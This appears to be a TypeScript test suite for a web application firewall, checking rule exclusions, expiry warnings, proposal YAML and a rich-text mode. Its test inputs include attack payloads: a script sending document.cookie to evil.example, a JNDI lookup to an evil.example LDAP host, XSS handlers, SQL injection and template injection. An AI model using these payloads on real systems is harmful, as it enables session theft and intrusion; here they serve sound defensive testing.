// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups are written so
// What exclusions and rich-text fields of the config let pass, and what not.

import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { createInspector } from '../../inspect/inspector.ts'
import { parseRow } from '../../inspect/row.ts'
import { expiredWarnings, siteRules } from './exclusions.ts'
import { exclusionOptions, wafOptions } from './options.ts'
import { exclusionYaml, proposeExclusions } from './propose.ts'

const day = 86_400_000
const tomorrow = new Date(Date.now() + day).toISOString().slice(0, 10)
const yesterday = new Date(Date.now() - 2 * day).toISOString().slice(0, 10)
const script = 'Put <script src="app.js"></script> before the closing tag.'

function action(config: object, path: string, body: object, method = 'POST'): string {
  const created = createInspector({ settings: siteRules(wafOptions.parse(config)) })
  assert.ok(created.ok, JSON.stringify(created))
  const headers = { Host: 'a.example', 'User-Agent': 'Mozilla/5.0', Accept: '*/*', 'Content-Type': 'application/json' }
  const row = parseRow(JSON.stringify({ id: 'r', method, path, headers, body: JSON.stringify(body) }))
  assert.ok(!('error' in row))
  return created.inspector.inspect(row).action
}

describe('exclusions', () => {
  const fields = [5050010, 5090020, 5090010].map(rule => ({
    rule,
    field: 'ARGS:json.body',
    method: 'POST',
    path: '/articles',
  }))
  const cases: [name: string, exclusions: object[], path: string, body: object, want: string, method?: string][] = [
    ['none', [], '/articles', { body: script }, 'block'],
    ['of the field', fields, '/articles', { body: script }, 'allow'],
    ['of its encoded form too', fields, '/articles', { body: encodeURIComponent(script) }, 'allow'],
    ['not of another field', fields, '/articles', { title: script }, 'block'],
    ['not on another path', fields, '/comments', { body: script }, 'block'],
    ['not for another method', fields, '/articles', { body: script }, 'block', 'PUT'],
    ['not for another attack', fields, '/articles', { body: "1' UNION SELECT password FROM users-- -" }, 'block'],
    ['of paths below one', fields.map(one => ({ ...one, path: '/a*' })), '/articles', { body: script }, 'allow'],
    ['until tomorrow', fields.map(one => ({ ...one, expires: tomorrow })), '/articles', { body: script }, 'allow'],
    ['until yesterday', fields.map(one => ({ ...one, expires: yesterday })), '/articles', { body: script }, 'block'],
    ['of whole rules', fields.map(({ rule, path }) => ({ rule, path })), '/articles', { title: script }, 'allow'],
  ]
  for (const [name, exclusions, path, body, want, method] of cases) {
    test(name, () => assert.equal(action({ exclusions }, path, body, method), want))
  }

  test('what has ended is told', () => {
    const { exclusions } = wafOptions.parse({
      exclusions: [
        { rule: 1, path: '/', expires: yesterday },
        { rule: 2, path: '/', expires: tomorrow },
        { rule: 3, path: '/' },
        { rule: 4, path: '/', expires: '2026-01-01T00:00:00Z' },
      ],
    })
    const paths = expiredWarnings(exclusions, Date.now()).map(({ path }) => path)
    assert.deepEqual(paths, ['guards.waf.exclusions.0', 'guards.waf.exclusions.3'])
  })

  for (const bad of [
    { rule: 0, path: '/' },
    { rule: 1, path: 'x' },
    { rule: 1, path: '/a"b' },
    { rule: 1, path: '/', field: 'ARGS:a"b' },
    { rule: 1, path: '/', method: 'post' },
    { rule: 1, path: '/', expires: 'soon' },
    { rule: 1, path: '/', until: tomorrow },
  ]) {
    test(`refuses ${JSON.stringify(bad)}`, () => assert.equal(exclusionOptions.safeParse(bad).success, false))
  }

  test('a proposal is what the config takes', () => {
    const now = Date.parse('2026-11-24T10:00:00Z')
    const blamed = [
      { rule: 5050010, where: 'ARGS:json.body' },
      { rule: 5050010, where: 'LAYERS:ARGS:json.body' },
      { rule: 5060010, where: 'ARGS:a b' },
    ]
    const found = proposeExclusions('POST', '/articles', blamed, now)
    assert.ok(found)
    assert.equal(
      exclusionYaml(found),
      'exclusions:\n  - { rule: 5050010, field: "ARGS:json.body", method: POST, path: "/articles", expires: 2027-02-22 }\n' +
        '  - { rule: 5060010, method: POST, path: "/articles", expires: 2027-02-22 }',
    )
    assert.equal(proposeExclusions('POST', '/a"b', blamed, now), undefined)
  })
})

describe('rich text', () => {
  const config = { richText: [{ path: '/articles', field: 'ARGS:json.body' }] }
  const readme =
    '# queue\n\nInstall it:\n\n```sh\nnpm install queue; cat package.json | grep queue\n```\n\n```html\n<script src="queue.js"></script>\n```\n\n' +
    "It runs `SELECT * FROM jobs WHERE id = 1 OR 1=1; --` and `{{7*7}}`.\n\n```js\nrequire('child_process').execSync('ls -la')\n```\n"
  const passing: [name: string, body: string][] = [
    ['markup, commands and code in blocks', readme],
    ['a template', 'Write {{ config.items() }} in the page.'],
    ['a path', 'See /etc/passwd and ../../etc/hosts for more.'],
    ['markup', '<h1>Title</h1><p onside>text <b>bold</b></p><img src="a.png">'],
  ]
  const refused: [name: string, body: string][] = [
    ['an event handler', 'hello <img src=x onerror=alert(1)> there'],
    ['a script outside blocks', `${readme}\n<script>fetch('//evil.example?c='+document.cookie)</script>`],
    ['a script behind a block that nothing closes', 'a\n```\n<script>alert(1)</script>'],
    ['a URL that is script', '[x](y) <a href="javascript:alert(1)">x</a>'],
    ['SQL that leaves a string', "x'; DROP TABLE users; -- "],
    ['a lookup', 'see ${jndi:ldap://evil.example/a}'],
    ['a serialized object', 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=='],
  ]
  for (const [name, body] of passing)
    test(`passes ${name}`, () => assert.equal(action(config, '/articles', { body }), 'allow'))
  for (const [name, body] of refused)
    test(`refuses ${name}`, () => assert.equal(action(config, '/articles', { body }), 'block'))
  test('other fields are judged as ever', () => {
    assert.equal(action(config, '/articles', { title: '{{7*7}}' }), 'block')
    assert.equal(action(config, '/other', { body: '{{7*7}}' }), 'block')
  })
})
